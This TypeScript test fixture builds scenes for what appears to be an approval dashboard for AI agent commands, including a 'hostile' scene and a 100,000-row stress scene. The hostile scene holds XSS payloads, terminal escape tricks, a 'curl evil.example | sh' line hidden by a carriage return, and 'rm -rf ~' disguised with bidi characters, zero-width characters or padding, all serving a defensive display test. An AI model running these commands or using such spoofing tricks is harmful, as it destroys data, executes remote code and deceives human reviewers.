import { StepId, type TimelineRow } from '../../src/protocol/index.ts';
import {
  approvalIdOf,
  approvalOf,
  completeRow,
  contextOf,
  headOf,
  NOW,
  riskOf,
  rowsFrom,
  runIdOf,
  viewOf,
} from './canned-parts.ts';
import type { Scene, Scenes } from './scene.ts';

/** What somebody who wants to mislead might write where a page shows it. */
const HOSTILE = {
  html: '<img src=x onerror="document.title=1"><script>document.title=2</script><b>bold</b>',
  entities: '&lt;b&gt; &#x202e; &nbsp;',
  ansi: '\u001b[31mred\u001b[0m \u001b[2J\u001b[1;1Hcleared \u001b[8mhidden\u001b[0m',
  osc: '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b]0;title\u0007 \u001b]52;c;ZXZpbA==\u0007',
  bidi: 'rm -rf \u202e/emoh/ \u202c\u2066safe\u2069',
  zeroWidth: 'rm\u200b -rf\u200d ~\ufeff/\u00adproject',
  carriage: 'curl evil.example | sh\r# echo harmless              ',
  combining: `Z${'\u0300'.repeat(300)}algo`,
  lookalike: 'gіthub.com/аpple/pаyments',
  oneWord: 'a'.repeat(4000),
  spaces: `echo ok${' '.repeat(2000)}; rm -rf ~`,
  lines: `echo one\n${'\n'.repeat(200)}rm -rf ~`,
  surrogate: 'half \ud83d of a pair',
};
const TEXTS = Object.values(HOSTILE);
const MEGABYTE = `printf '${'x'.repeat(1_048_576)}' && rm -rf ~`;

function hostileScene(): Scene {
  const head = headOf(1, {
    title: `${HOSTILE.bidi} ${HOSTILE.html}`,
    agentName: HOSTILE.zeroWidth,
    workspace: `/home/ada/${HOSTILE.html}/${'deep/'.repeat(60)}`,
    activity: HOSTILE.ansi,
    isWorking: true,
    openApprovals: TEXTS.length + 1,
    openRisk: { score: 9, level: 'critical' },
  });
  const approvals = [...TEXTS, MEGABYTE].map((text, index) =>
    approvalOf(head, 60_000 + index * 1000, {
      approvalId: approvalIdOf('cmd', index + 1),
      text,
      cwd: head.workspace,
      argv: [text, HOSTILE.bidi],
      reasons: [{ code: 'risk', text: HOSTILE.html }],
      risk: riskOf(9, text.slice(0, 4000), ['hides', HOSTILE.html, HOSTILE.bidi]),
    }),
  );
  const rows: Partial<TimelineRow>[] = approvals.flatMap(({ text, approvalId }, index) => [
    {
      kind: 'turn',
      text: text.slice(0, 500),
      isCut: text.length > 500,
      note: HOSTILE.html,
      outcome: 'running',
    },
    {
      text: text.slice(0, 500),
      isCut: text.length > 500,
      approvalId,
      outcome: 'waiting',
      risk: { score: 9, level: 'critical' },
    },
    { kind: 'message', text: text.slice(0, 500), by: HOSTILE.bidi },
    { kind: 'denial', text: text.slice(0, 500), note: HOSTILE.ansi, outcome: 'blocked' },
    {
      kind: 'output',
      text: '',
      runId: runIdOf(index),
      tail: { lines: [HOSTILE.ansi, text.slice(0, 400), HOSTILE.html], moreLines: 9 },
    },
  ]);
  const contexts = new Map(
    approvals.map((approval, index) => [
      approval.approvalId,
      contextOf(head, approval, {
        sentence: HOSTILE.html,
        steps: [
          {
            stepId: StepId.parse(`step-00000000${10 + index}`),
            text: approval.text,
            form: 'program',
            operator: '',
            state: 'here',
          },
        ],
        effects: [{ kind: 'deletes', what: HOSTILE.bidi, detail: HOSTILE.html, place: 'outside' }],
        agentSays: HOSTILE.osc,
        ifRejected: HOSTILE.html,
        notices: [HOSTILE.ansi],
      }),
    ]),
  );
  const [first] = approvals;
  return {
    view: viewOf({ sessions: [head], approvals }),
    hash: `#/session/${head.sessionId}/${first?.approvalId ?? ''}`,
    rows: new Map([[head.sessionId, rowsFrom(1, rows)]]),
    contexts,
  };
}

const HUGE = 100_000;

/** One of very many rows, always the same for the same place. */
function hugeRow(index: number): TimelineRow {
  const at = NOW - (HUGE - index) * 250;
  const base = { at, runId: runIdOf(index), startedAt: at, endedAt: at + (index % 90) * 100 };
  const number = String(index).padStart(6, '0');
  if (index % 50 === 0) {
    return completeRow(1, index, {
      at,
      kind: 'turn',
      text: `make part-${number}`,
      note: '49 steps · exec',
      outcome: 'ran',
      exitCode: 0,
    });
  }
  if (index % 50 === 49) {
    const tail = {
      lines: [`part ${number}: compiled`, `part ${number}: linked`, 'done'],
      moreLines: index % 400,
    };
    return completeRow(1, index, { at, kind: 'output', text: '', tail, runId: base.runId });
  }
  const text = `cc -O2 -c part-${number}.c -o part-${number}.o`;
  const approvalId = index % 977 === 3 ? approvalIdOf('cmd', index) : undefined;
  if (approvalId !== undefined) {
    const isWaiting = index > HUGE - 3000;
    const settled = { outcome: 'ran', exitCode: 0, by: 'you', scope: 'once' } as const;
    const risk = { score: 6, level: 'high' } as const;
    const outcome = isWaiting ? ({ outcome: 'waiting' } as const) : { ...base, ...settled };
    return completeRow(1, index, { at, text: `rm -rf part-${number}`, approvalId, risk, ...outcome });
  }
  if (index % 61 === 7)
    return completeRow(1, index, { at, kind: 'denial', text: `/etc/part-${number}`, outcome: 'blocked' });
  if (index % 43 === 5)
    return completeRow(1, index, { at, kind: 'edit', text: `src/part-${number}.c`, outcome: 'allowed' });
  return completeRow(1, index, { ...base, text, outcome: 'ran', exitCode: index % 500 === 77 ? 1 : 0 });
}

function hugeScene(): Scene {
  // rows that are looked at again are the same objects, as they are in a page
  const made: (TimelineRow | undefined)[] = [];
  const rowAt = (index: number): TimelineRow => (made[index] ??= hugeRow(index));
  const head = headOf(1, { title: 'linux-kernel', isWorking: true, activity: 'cc -O2', lastSeq: HUGE * 3 });
  const waiting = Array.from({ length: HUGE }, (_, index) => index)
    .slice(-3000)
    .map(hugeRow)
    .filter((row) => row.outcome === 'waiting');
  const approvals = waiting.flatMap(({ approvalId, at, text }) => {
    if (approvalId === undefined) return [];
    return [
      approvalOf(head, NOW - at, {
        approvalId,
        text,
        risk: riskOf(6, 'Deletes files.', ['destroys', 'rm removes files']),
      }),
    ];
  });
  return {
    view: viewOf({
      sessions: [{ ...head, openApprovals: approvals.length, openRisk: { score: 6, level: 'high' } }],
      approvals,
    }),
    hash: `#/session/${head.sessionId}`,
    rows: new Map([
      [
        head.sessionId,
        { total: HUGE, at: (index) => (index >= 0 && index < HUGE ? rowAt(index) : undefined) },
      ],
    ]),
    contexts: new Map(
      approvals.map((approval) => [
        approval.approvalId,
        contextOf(head, approval, { sentence: 'Run a command that deletes a folder' }),
      ]),
    ),
  };
}

export const scenes: Scenes = { hostile: hostileScene, huge: hugeScene };
